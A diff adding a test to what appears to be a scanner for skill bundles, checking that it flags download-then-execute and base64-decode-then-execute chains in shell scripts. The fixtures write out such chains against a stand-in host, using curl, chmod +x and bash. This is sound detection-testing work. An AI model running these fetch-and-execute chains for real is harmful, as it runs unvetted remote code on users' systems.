@@ -269,3 +269,13 @@ def test_clean_bundle_is_reported(files_of):
 def test_structure_of_bundle_without_main_file(files_of):
     files = files_of({("a", ".hidden/x.py"): "1"})
     assert [r.rule_id for r in structure.structure_findings(files, manifest.bundles(files)).collect()] == ["STRUCTURE_MISSING_SKILL_MD"]
+
+
+def test_steps_that_count_only_beside_others_are_looked_for_beside_them(files_of):
+    texts = {("b", "alone.sh"): "curl https://x.test\nbash run.sh\nsh b.sh\n", ("b", "saved.sh"): "curl -o a.sh https://x.test/a.sh\nbash a.sh\n",
+             ("b", "armed.sh"): "curl https://x.test/a.sh > a.sh\nchmod +x a.sh\n./a.sh\n", ("b", "plain.sh"): "base64 a\nbash a\n", ("b", "decoded.sh"): "base64 -d a\nbash a\n"}
+    rows = {r.rel_path: r for r in chains.with_positions(chains.targets(files_of(texts)), tuple(chains.RULES)).collect()}
+    assert [rows[p].p_run for p in ("alone.sh", "saved.sh", "armed.sh")] == [[], [1, 2], [1, 3]]
+    assert (rows["plain.sh"].p_command, rows["decoded.sh"].p_command) == ([], [2])
+    found = {(r.rel_path, r.rule_id) for r in chains.scan_chains(files_of(texts)).collect()}
+    assert found == {("saved.sh", "PIPELINE_FETCH_EXECUTE"), ("armed.sh", "PIPELINE_DOWNLOAD_CHMOD_EXEC"), ("decoded.sh", "PIPELINE_BASE64_EXEC")}
